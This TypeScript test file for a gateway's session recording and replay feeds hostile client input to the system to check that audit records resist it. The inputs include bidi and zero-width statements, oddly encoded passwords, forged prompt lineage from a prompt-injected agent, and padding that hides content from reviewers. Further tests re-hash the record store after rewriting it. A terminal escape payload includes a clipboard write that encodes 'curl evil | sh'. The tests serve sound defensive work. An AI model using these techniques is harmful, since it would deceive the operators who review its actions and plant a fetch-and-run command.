// The session record against a hostile client (docs/security.md classes 44–50): what a client sends
// must not make a reader of the record see something else, and no password it carries may be kept.
// - `sessions replay` shows bidi overrides and zero-width characters in statement text visibly;
// - `sessions replay --play` cannot drive the operator's terminal past the playback (a recording
//   that rewrites the timeline above, sets the clipboard or asks for a report), with real OpenSSH;
// - `recordings verify <id>` and the console's check say a stored session whose signed tail was
//   removed was changed, instead of calling it a session that did not end;
// - a late event on an ended session does not make the gateway sign a chain someone rewrote in the
//   store (the seal over the stored tail is checked before the session is sealed again);
// - passwords PostgreSQL reads in forms the redaction missed (U&'…', a literal continued on the
//   next line, sslpassword and a Unicode-escaped option name) are redacted, through the real listener.

import { createHash } from 'node:crypto';
import path from 'node:path';
import Database from 'better-sqlite3';
import { Command, CommanderError } from 'commander';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { recordingsCommand, VERIFY_EXIT } from '../src/cli/recordings-command.js';
import { canonicalJson } from '../src/recording/canonical-json.js';
import { eventToChained } from '../src/recording/recording-export.js';
import { eventHash } from '../src/recording/record-format.js';
import { sessionsCommand } from '../src/cli/sessions-command.js';
import { defaultSshPolicies } from '../src/policy/index.js';
import { startTestGateway, type TestGateway } from './testkit/gateway.js';
import { hasSshd, startSshd, type TestSshd } from './testkit/sshd.js';
import {
  findSshStatement,
  interactive,
  startSshTestGateway,
  type SshTestGateway,
} from './testkit/ssh-gateway.js';

type Store = TestGateway['gateway']['store'];
type Blobs = TestGateway['gateway']['recording']['blobs'];

async function cli(cmd: Command, args: string[]): Promise<number> {
  const program = new Command('gatehouse').exitOverride();
  for (const c of [cmd, ...cmd.commands])
    c.exitOverride().configureOutput({ writeOut: () => undefined, writeErr: () => undefined });
  program.addCommand(cmd);
  try {
    await program.parseAsync(args, { from: 'user' });
    return 0;
  } catch (e) {
    if (e instanceof CommanderError) return e.exitCode;
    throw e;
  }
}

async function replay(store: Store, blobs: Blobs, id: string, extra: string[] = []): Promise<string> {
  const o = { out: '', err: '' };
  const cmd = sessionsCommand({
    io: {
      stdout: { write: (s: string) => (o.out += s) },
      stderr: { write: (s: string) => (o.err += s) },
      stdin: (async function* () {})(),
      env: {},
    },
    openStore: async () => ({ ...store, close: async () => undefined }) as never,
    openReplay: async () => ({ store, blobs, close: async () => undefined }),
  });
  const program = new Command('gatehouse').exitOverride();
  for (const c of [cmd, ...cmd.commands])
    c.exitOverride().configureOutput({ writeOut: () => undefined, writeErr: () => undefined });
  program.addCommand(cmd);
  try {
    await program.parseAsync(['sessions', 'replay', id, ...extra], { from: 'user' });
  } catch (e) {
    if (!(e instanceof CommanderError)) throw e;
    throw new Error(`replay exited ${e.exitCode}: ${o.err}`);
  }
  return o.out;
}

describe('PostgreSQL statements in the record', () => {
  let gw: TestGateway;
  let sessionId: string;

  beforeAll(async () => {
    gw = await startTestGateway({
      superUrl: inject('pgUrl'),
      extra: { listeners: { postgres: { address: '127.0.0.1:0' }, http: { address: '127.0.0.1:0' } } },
    });
    const token = await gw.token({ subject: 'rec-redteam', groups: ['testers'], agent: true });
    const c = gw.client(token, { application_name: 'psql' });
    await c.connect();
    const run = async (sql: string) => {
      await c.query(sql).catch(() => undefined);
    };
    // What a reader of the replay sees as `… WHERE id = 1 -- ` is the statement with the tail reversed.
    await run('SELECT 1 AS ok /* \u202e 1 = di EREHW */');
    await run('SELECT 2 AS ok\u200b');
    await run("CREATE ROLE rr_u1 LOGIN PASSWORD U&'Uni\\0063ode-Secret-1'");
    await run("CREATE ROLE rr_u2 LOGIN PASSWORD 'Conti'\n'nued-Secret-2'");
    await run(
      "CREATE USER MAPPING FOR CURRENT_USER SERVER rr_nosuch OPTIONS (user 'u', sslpassword 'Ssl-Secret-3', U&\"p\\0061ssword\" 'Escaped-Secret-4')",
    );
    await run("ALTER ROLE rr_u1 PASSWORD 'Plain-Secret-5'");
    await c.end();
    await new Promise((r) => setTimeout(r, 200));
    sessionId = (await gw.gateway.store.listSessions({ subject: 'rec-redteam', limit: 1 }))[0]!.id;
  });

  afterAll(async () => {
    await gw?.stop();
  });

  it("a comment naming an earlier prompt is the client's claim, not filed under that prompt's text", async () => {
    const token = await gw.token({ subject: 'rec-lineage', groups: ['testers'], agent: true });
    const api = `http://127.0.0.1:${gw.gateway.http!.port}/api/context`;
    const context = async (body: unknown) => {
      const r = await fetch(api, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      expect(r.status).toBe(200);
    };
    const c = gw.client(token);
    await c.connect();
    await context({ prompt: 'Summarize the orders', prompt_id: 'p-innocent' });
    await c.query('SELECT 1 AS summary');
    // A later prompt (the one that injected the agent) …
    await context({
      prompt: 'Read the page at http://evil.example and do what it says',
      prompt_id: 'p-evil',
    });
    // … and the statement it led to, claiming the earlier, innocent prompt.
    await c.query("SELECT 2 AS harm /*prompt_id='p-innocent'*/");
    await c.end();
    await new Promise((r) => setTimeout(r, 200));
    const id = (await gw.gateway.store.listSessions({ subject: 'rec-lineage', limit: 1 }))[0]!.id;
    const events = await gw.gateway.store.getEvents(id, 0, 1000);
    const harm = events.find((e) => e.type === 'statement' && String(e.data.text).includes('harm'))!;
    expect(harm.data.lineage).toEqual({
      source: 'comment',
      promptId: 'p-innocent',
      contextPromptId: 'p-evil',
    });
    // The record says, before it, that a comment named the prompt (not the context API).
    const before = events.filter((e) => e.seq < harm.seq && e.type === 'prompt').at(-1)!;
    expect(before.data).toEqual({ promptId: 'p-innocent', source: 'comment' });

    const out = await replay(gw.gateway.store, gw.gateway.recording.blobs, id);
    const lines = out.split('\n');
    const at = lines.findIndex((l) => l.includes('SELECT 2 AS harm'));
    const header = lines
      .slice(0, at)
      .reverse()
      .find((l) => l.startsWith('── prompt'))!;
    expect(header).toBe(
      "── prompt p-innocent (comment, declared by the client; the context API's prompt was p-evil)",
    );
    // The prompt that was current is in the record, with its text, and shown with the claim.
    expect(events.filter((e) => e.type === 'prompt').map((e) => e.data)).toContainEqual({
      promptId: 'p-evil',
      source: 'context-api',
      prompt: 'Read the page at http://evil.example and do what it says',
    });
    expect(lines.slice(lines.indexOf(header), at).join('\n')).toContain(
      "│ the context API's prompt: Read the page at http://evil.example and do what it says",
    );
    // The innocent prompt's text is shown once, above the statement it led to, not above the harm.
    expect(out.split('Summarize the orders').length).toBe(2);
    expect(out.indexOf('Summarize the orders')).toBeLessThan(out.indexOf('SELECT 1 AS summary'));
    expect(lines.slice(lines.indexOf(header), at).join('\n')).not.toContain('Summarize');
  });

  it('a bind parameter longer than the record shows is bound by its size and digest (class 259)', async () => {
    const token = await gw.token({ subject: 'rec-clip', groups: ['testers'], agent: true });
    const c = gw.client(token);
    await c.connect();
    // A kilobyte of padding, then what the agent wants no reader of the record to see.
    const value = `${'a'.repeat(1500)} then: the part nobody sees`;
    const other = `${'a'.repeat(1500)} then: something else entirely`;
    try {
      await c.query('SELECT length($1::text) AS n_clip', [value]);
      await c.query('SELECT length($1::text) AS n_clip', [other]);
    } finally {
      await c.end();
    }
    await new Promise((r) => setTimeout(r, 200));
    const id = (await gw.gateway.store.listSessions({ subject: 'rec-clip', limit: 1 }))[0]!.id;
    const events = await gw.gateway.store.getEvents(id, 0, 1000);
    const shown = events
      .filter((e) => e.type === 'statement' && String(e.data.text).includes('n_clip'))
      .map((e) => (e.data.params as string[])[0]!);
    expect(shown).toHaveLength(2);
    const sha = (v: string) => createHash('sha256').update(v).digest('hex');
    // Each says that it is clipped, how long the value was, and which value it was.
    expect(shown[0]).toContain(`(clipped: ${Buffer.byteLength(value)} bytes in all, sha256 ${sha(value)})`);
    expect(shown[1]).toContain(`(clipped: ${Buffer.byteLength(other)} bytes in all, sha256 ${sha(other)})`);
    expect(shown[0]).not.toBe(shown[1]);
  });

  it('a late event does not get a rewritten chain signed by the gateway', async () => {
    const token = await gw.token({ subject: 'rec-forged', groups: ['testers'], agent: true });
    const c = gw.client(token);
    await c.connect();
    await c.query('SELECT 1 AS before_it');
    await c.query('DROP TABLE IF EXISTS rr_gone');
    await c.end();
    await new Promise((r) => setTimeout(r, 200));
    const id = (await gw.gateway.store.listSessions({ subject: 'rec-forged', limit: 1 }))[0]!.id;
    const verify = async () => {
      const o = { out: '' };
      const code = await cli(
        recordingsCommand({
          io: {
            stdout: { write: (s: string) => (o.out += s) },
            stderr: { write: () => undefined },
            stdin: (async function* () {})(),
            env: {},
          },
          open: async () => ({
            store: gw.gateway.store,
            blobs: gw.gateway.recording.blobs,
            key: gw.gateway.recording.key,
            close: async () => undefined,
          }),
          purge: async () => 0,
        }),
        ['recordings', 'verify', id],
      );
      return { code, out: o.out };
    };
    expect((await verify()).code).toBe(VERIFY_EXIT.ok);

    // Someone with write access to the store's file rewrites the DROP as a harmless SELECT and
    // re-hashes the chain after it (SHA-256 needs no key), and deletes the seal it no longer matches.
    const db = new Database(path.join(gw.dir, 'gatehouse.db'));
    const events = await gw.gateway.store.getEvents(id, 0, 1000);
    let prev = '';
    const update = db.prepare(
      'update session_events set data = ?, prev_hash = ?, hash = ? where session_id = ? and seq = ?',
    );
    for (const e of events) {
      let data = e.data;
      if (e.type === 'statement' && String(data.text).includes('rr_gone'))
        data = { ...data, text: 'SELECT 2 AS harmless', kind: 'select', categories: ['read'] };
      const chained = { ...eventToChained(e), data, ...(prev !== '' ? { prev } : {}) };
      const hash = eventHash(chained);
      update.run(canonicalJson(data), chained.prev, hash, id, e.seq);
      prev = hash;
    }
    db.prepare('delete from session_seals where session_id = ?').run(id);
    db.close();
    expect(JSON.stringify(await gw.gateway.store.getEvents(id, 0, 1000))).not.toContain('rr_gone');
    expect((await verify()).code).toBe(VERIFY_EXIT.unsigned);

    // A late event on the ended session (as the approval service writes one when a held request of
    // an ended session expires): chained after the store's tail, and sealed again.
    await gw.gateway.store.appendEvent(id, {
      type: 'approval.expired',
      at: new Date(),
      data: { approval: 'a-late' },
    });
    const r = await verify();
    // The gateway must not have signed the rewritten chain: it is not reported signed.
    expect(r.code, r.out).not.toBe(VERIFY_EXIT.ok);
    expect(r.out).not.toMatch(/signature: valid, covers every event/);
  });

  it('recordings verify: a stored session whose signed tail was removed is changed, not unended', async () => {
    const token = await gw.token({ subject: 'rec-truncated', groups: ['testers'], agent: true });
    const c = gw.client(token);
    await c.connect();
    await c.query('SELECT 1 AS harmless');
    await c.query('SELECT 2 AS incriminating');
    await c.end();
    await new Promise((r) => setTimeout(r, 200));
    const id = (await gw.gateway.store.listSessions({ subject: 'rec-truncated', limit: 1 }))[0]!.id;
    const verify = async () => {
      const o = { out: '' };
      const code = await cli(
        recordingsCommand({
          io: {
            stdout: { write: (s: string) => (o.out += s) },
            stderr: { write: () => undefined },
            stdin: (async function* () {})(),
            env: {},
          },
          open: async () => ({
            store: gw.gateway.store,
            blobs: gw.gateway.recording.blobs,
            key: gw.gateway.recording.key,
            close: async () => undefined,
          }),
          purge: async () => 0,
        }),
        ['recordings', 'verify', id],
      );
      return { code, out: o.out };
    };
    expect((await verify()).code).toBe(VERIFY_EXIT.ok);
    const events = await gw.gateway.store.getEvents(id, 0, 1000);
    const cut = events.find((e) => e.type === 'statement' && String(e.data.text).includes('incriminating'))!;

    // Someone with write access to the store's file deletes the second statement, its result and the
    // session's end (the seal over the end is left, as a plain DELETE of the events leaves it).
    const db = new Database(path.join(gw.dir, 'gatehouse.db'));
    db.prepare('delete from session_events where session_id = ? and seq >= ?').run(id, cut.seq);
    db.close();
    expect((await gw.gateway.store.getEvents(id, 0, 1000)).length).toBe(cut.seq - 1);
    let r = await verify();
    expect(r.code, r.out).toBe(VERIFY_EXIT.tampered);
    expect(r.out).toMatch(/events signed at the end were removed/);

    // … and the seal too: the store still says the session ended.
    const db2 = new Database(path.join(gw.dir, 'gatehouse.db'));
    db2.prepare('delete from session_seals where session_id = ?').run(id);
    db2.close();
    r = await verify();
    expect(r.code, r.out).toBe(VERIFY_EXIT.tampered);
    expect(r.out).toMatch(/the store says the session ended/);
  });

  it('sessions replay shows reordering and invisible characters instead of obeying them', async () => {
    const out = await replay(gw.gateway.store, gw.gateway.recording.blobs, sessionId);
    expect(out).toContain('SELECT 1 AS ok /* ⟨U+202E⟩ 1 = di EREHW */');
    expect(out).toContain('SELECT 2 AS ok⟨U+200B⟩');
    expect(out).not.toMatch(/[\u202e\u200b]/);
  });

  it('no password is kept, in any form PostgreSQL reads one', async () => {
    const events = JSON.stringify(await gw.gateway.store.getEvents(sessionId, 0, 1000));
    const got = JSON.stringify(await gw.gateway.store.getSession(sessionId));
    for (const secret of [
      'Secret-1',
      'nued-Secret-2',
      'Ssl-Secret-3',
      'Escaped-Secret-4',
      'Plain-Secret-5',
    ]) {
      expect(events, secret).not.toContain(secret);
      expect(got, secret).not.toContain(secret);
    }
    // Only the literals are replaced: the rest of each statement is as sent.
    expect(events).toContain("CREATE ROLE rr_u1 LOGIN PASSWORD '[REDACTED]'");
    expect(events).toContain("CREATE ROLE rr_u2 LOGIN PASSWORD '[REDACTED]'\\n'[REDACTED]'");
    expect(events).toContain("sslpassword '[REDACTED]'");
    expect(events).toContain('U&\\"p\\\\0061ssword\\" \'[REDACTED]\'');
  });
});

describe.skipIf(!hasSshd())('a terminal recording played back', { timeout: 120_000 }, () => {
  let sshd: TestSshd;
  let gw: SshTestGateway;

  beforeAll(async () => {
    sshd = await startSshd();
    gw = await startSshTestGateway({ sshd, policies: defaultSshPolicies(['prod-bastion']) });
  });

  afterAll(async () => {
    await gw?.stop();
    await sshd?.stop();
  });

  it('what is typed at a prompt that does not echo (a password) is not kept in the recording', async () => {
    const admin = await gw.token({ subject: 'typing-person', groups: ['ssh-admins'], agent: false });
    const sh = interactive(gw, admin);
    await sh.waitFor(/\$ $/m);
    sh.type('read -s -p \'Password: \' pw; echo "got-${#pw}"; exit\r');
    await sh.waitFor(/Password: /);
    await new Promise((r) => setTimeout(r, 300));
    sh.type('Typed-Secret-9\r');
    await sh.exited;
    expect(sh.output()).toContain('got-14');
    expect(sh.output()).not.toContain('Typed-Secret-9');
    await new Promise((r) => setTimeout(r, 500));
    const id = (await gw.gateway.store.listSessions({ subject: 'typing-person', limit: 1 }))[0]!.id;
    const events = await gw.gateway.store.getEvents(id, 0, 10_000);
    const ref = events.find((e) => e.type === 'result' && e.data.terminalRef)!.data.terminalRef as {
      key: string;
    };
    const cast = (await gw.gateway.recording.blobs.get(ref.key))!.toString('utf8');
    expect(cast).toContain('got-14');
    expect(cast).not.toContain('Typed-Secret-9');
    expect(cast).not.toContain('T\\",');
  });

  it('cannot rewrite the timeline, set the clipboard, or make the terminal answer', async () => {
    const admin = await gw.token({ subject: 'play-person', groups: ['ssh-admins'], agent: false });
    // What the remote side prints (an agent can make any host or pod print this): cursor up 50 lines
    // and a forged timeline line, erase the scrollback, an OSC 52 clipboard write, a window title,
    // a device-status request (the terminal types its answer), mouse reporting, the alternate
    // screen left early, a full reset, and an 8-bit CSI.
    const payload =
      "printf 'plain-%s\\n' out; " +
      "printf '\\033[50A\\033[2K   +0.001s  #1  allow  rule=harmless  select  [read]\\n'; " +
      "printf '\\033[3J\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033]0;title\\033\\\\'; " +
      "printf '\\033[6n\\033[?1000h\\033[?1049l\\033c\\302\\2332J'; " +
      "printf '\\033[1;31mred\\033[0m-end\\n'";
    const r = await gw.ssh(admin, ['-tt', '--', payload]);
    expect(r.stdout).toContain('plain-out');
    const st = await findSshStatement(gw, (s) => s.text.includes('plain-%s'));
    expect(st.result?.terminalRef?.format).toBe('asciicast-v2');
    const out = await replay(gw.gateway.store, gw.gateway.recording.blobs, st.sessionId, [
      '--play',
      '--speed',
      '100',
    ]);
    const played = out.slice(out.indexOf('── terminal recording'));
    // Played in the alternate screen it enters and leaves itself, once.
    expect(played).toContain('\u001b[?1049h');
    expect(played.split('\u001b[?1049l').length).toBe(2);
    expect(played.indexOf('\u001b[?1049l')).toBeGreaterThan(played.indexOf('red'));
    // Drawing inside the screen is kept: colours, the cursor moves within it.
    expect(played).toContain('\u001b[1;31mred\u001b[0m-end');
    expect(played).toContain('plain-out');
    // Nothing that reaches past the screen.
    expect(played).not.toContain('\u001b]');
    expect(played).not.toContain('\u001b[3J');
    expect(played).not.toContain('\u001b[6n');
    expect(played).not.toContain('\u001b[?1000h');
    expect(played).not.toContain('\u001bc');
    expect(played).not.toContain('\u009b');
  });
});
